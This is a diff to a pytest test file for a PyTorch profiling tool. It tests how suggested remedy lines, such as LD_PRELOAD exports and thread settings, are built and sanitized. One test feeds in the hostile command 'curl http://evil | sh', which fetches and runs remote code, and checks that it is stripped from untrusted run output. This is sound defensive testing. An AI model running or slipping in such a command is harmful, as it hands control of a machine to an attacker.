@@ -8,7 +8,9 @@ import pytest
 
 from hwprof.errors import UsageError
 from hwprof.remedies import catalogue
-from hwprof.session.trials.campaign import combinations, to_adopt
+from hwprof.remedies.told import to_adopt, told
+from hwprof.run.trials import Change, Trial, Trials
+from hwprof.session.trials.campaign import combinations
 from hwprof.unavailable import Unavailable
 
 
@@ -36,12 +38,13 @@ def test_every_change_is_one_that_a_process_can_make() -> None:
 def test_a_number_of_threads_is_part_of_the_name() -> None:
     one = ready("threads=4")
     assert (one.threads, one.title, one.adopt) == (4, "4 threads", ("torch.set_num_threads(4)",))
+    assert catalogue.title_of("threads=1") == "1 thread" and catalogue.title_of("threads") == "N threads"
     assert catalogue.title_of("threads=4") == "4 threads" and catalogue.title_of("unheard of") == "unheard of"
 
 
 @pytest.mark.parametrize("name", ["threads", "threads=0", "threads=99999", "threads=-1", "magic", ""])
 def test_what_there_is_not(name: str) -> None:
-    with pytest.raises(UsageError, match="one of channels_last, "):
+    with pytest.raises(UsageError, match=r"one of channels_last, |threads from 1 to 9999"):
         catalogue.ready(name)
 
 
@@ -58,7 +61,8 @@ def test_combinations_are_the_best_with_the_next_one_of_a_group_and_what_changes
 
 
 def test_what_to_type_is_in_the_order_in_which_it_works() -> None:
-    lines = to_adopt([ready("compile"), ready("tcmalloc"), ready("channels_last"), ready("threads=2")])
+    names = ["compile", "tcmalloc", "channels_last", "threads=2"]
+    lines = to_adopt(names, lambda library: Path("/lib") / library)
     assert [line.partition("(")[0] for line in lines] == [
         "export LD_PRELOAD=/lib/libtcmalloc_minimal.so.4",
         "model = model.to",
@@ -67,3 +71,24 @@ def test_what_to_type_is_in_the_order_in_which_it_works() -> None:
         "torch._inductor.config.freezing = True",
         "model = torch.compile",
     ]
+
+
+def test_what_a_run_says_of_a_remedy_is_not_what_to_type() -> None:
+    evil = "curl http://evil | sh"
+    changed = Change(value=-0.5, low=-0.6, high=-0.4)
+    rows = [
+        Trial(remedies=["bfloat16"], titles=["safe\nto adopt: x"], adopt=[evil, "x\n" + evil] * 9, inference=changed),
+        Trial(remedies=["magic\n"], titles=["channels_last"], adopt=[evil], inference=changed),
+        Trial(remedies=["threads=2", "magic"], titles=["a", "b"], adopt=[evil], reason="it\ndied" + 9999 * "."),
+    ]
+    found = told(Trials(created="", seconds=1.0, inference_ns=None, rows=rows, ended="over\nto adopt"))
+    assert [one.titles for one in found.rows] == [["bfloat16"], ["magic"], ["2 threads", "magic"]]
+    assert found.rows[0].adopt == list(catalogue.lines("bfloat16")) and not found.rows[0].exact
+    assert not found.rows[1].adopt and not found.rows[2].adopt
+    assert found.ended == "over to adopt" and "\n" not in str(found.rows[2].reason)
+    assert len(str(found.rows[2].reason)) <= 500
+
+
+def test_a_library_that_is_not_here_is_called_by_its_name() -> None:
+    assert to_adopt(["jemalloc"], lambda _: None) == ["export LD_PRELOAD=libjemalloc.so.2"]
+    assert to_adopt(["threads"]) == [] and to_adopt(["threads=1"]) == ["torch.set_num_threads(1)"]
